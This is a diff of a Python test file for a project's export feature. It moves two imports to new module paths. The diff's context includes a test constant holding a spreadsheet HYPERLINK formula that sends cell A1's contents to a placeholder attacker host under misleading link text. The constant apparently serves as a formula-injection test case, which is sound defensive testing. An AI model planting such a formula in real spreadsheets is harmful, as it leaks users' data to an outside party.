@@ -17,7 +17,7 @@ import pytest
 
 from core.commands import export_project
 from core.errors import Errors, ExportError
-from core.export import (
+from core.export.writers import (
     CELL_LIMIT,
     CLAIM_COLUMNS,
     VERDICT_RATINGS,
@@ -31,7 +31,7 @@ from core.export import (
     write_xlsx,
 )
 from core.model import Result, Review
-from core.store import Project
+from core.project.store import Project
 from tests.core.test_store import sample_result
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full toll")'
